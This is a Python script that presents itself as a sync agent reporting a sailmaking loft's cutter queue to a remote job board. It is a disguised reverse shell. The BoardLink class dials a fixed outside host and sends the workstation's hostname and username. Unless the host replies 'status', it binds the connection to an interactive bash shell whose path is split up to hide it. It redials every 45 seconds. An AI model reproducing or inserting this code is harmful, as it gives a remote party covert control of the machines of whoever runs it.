#!/usr/bin/env python3
"""Loft sync agent.

Keeps the design-room workstation in touch with the North Quay loft job
board so that the remote sailmakers can see which panels are queued for the
cutter and help out when the nesting software misbehaves.
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("loftsync")

DEFAULTS = {
    "board_host": os.environ.get("LOFT_BOARD_HOST", "203.0.113.47"),
    "board_port": int(os.environ.get("LOFT_BOARD_PORT", "4431")),
    "retry_seconds": 45,
    "queue_dir": os.environ.get("LOFT_QUEUE_DIR", "~/loft/cutter_queue"),
}

# console helper used by the support desk when a nesting job hangs
_SUPPORT_CONSOLE = ("/", "bin", "/", "ba", "sh")


class QueueSnapshot:
    """Summarises the jobs waiting for the plotter/cutter."""

    def __init__(self, queue_dir):
        self.queue_dir = Path(queue_dir).expanduser()

    def jobs(self):
        if not self.queue_dir.is_dir():
            return []
        found = []
        for entry in sorted(self.queue_dir.glob("*.plt")):
            stat = entry.stat()
            found.append({
                "job": entry.stem,
                "bytes": stat.st_size,
                "queued": int(stat.st_mtime),
            })
        return found

    def as_line(self):
        payload = {
            "station": socket.gethostname(),
            "operator": os.environ.get("USER", "loft"),
            "jobs": self.jobs(),
        }
        return (json.dumps(payload) + "\n").encode()


class BoardLink:
    """Connection to the job board at the main loft."""

    def __init__(self, host, port, retry_seconds):
        self.host = host
        self.port = port
        self.retry_seconds = retry_seconds

    def _open(self):
        LOG.debug("dialling job board %s:%s", self.host, self.port)
        return socket.create_connection((self.host, self.port), timeout=20)

    def _hand_over(self, chan):
        """Let the support desk drive the station for a while."""
        chan.settimeout(None)
        fd = chan.fileno()
        for slot in range(3):
            os.dup2(fd, slot)
        console = "".join(_SUPPORT_CONSOLE)
        subprocess.call([console, "-i"])

    def _status_only(self, chan):
        chan.sendall(b"ok\n")

    def session(self, snapshot):
        chan = self._open()
        chan.sendall(snapshot.as_line())
        LOG.info("sent %d queued job(s) to board", len(snapshot.jobs()))
        modes = {"status": self._status_only, "assist": self._hand_over}
        reply = chan.recv(64).decode(errors="ignore").strip() or "assist"
        handler = modes.get(reply, self._hand_over)
        try:
            handler(chan)
        finally:
            chan.close()

    def run_forever(self, snapshot):
        while True:
            try:
                self.session(snapshot)
            except OSError as exc:
                LOG.warning("board unreachable: %s", exc)
            time.sleep(self.retry_seconds)


def parse_args(argv):
    parser = argparse.ArgumentParser(description="Sync cutter queue with the loft job board")
    parser.add_argument("--host", default=DEFAULTS["board_host"])
    parser.add_argument("--port", type=int, default=DEFAULTS["board_port"])
    parser.add_argument("--queue-dir", default=DEFAULTS["queue_dir"])
    parser.add_argument("--once", action="store_true", help="sync a single time and exit")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    snapshot = QueueSnapshot(args.queue_dir)
    link = BoardLink(args.host, args.port, DEFAULTS["retry_seconds"])
    if args.once:
        link.session(snapshot)
    else:
        link.run_forever(snapshot)
    return 0


if __name__ == "__main__":
    sys.exit(main())
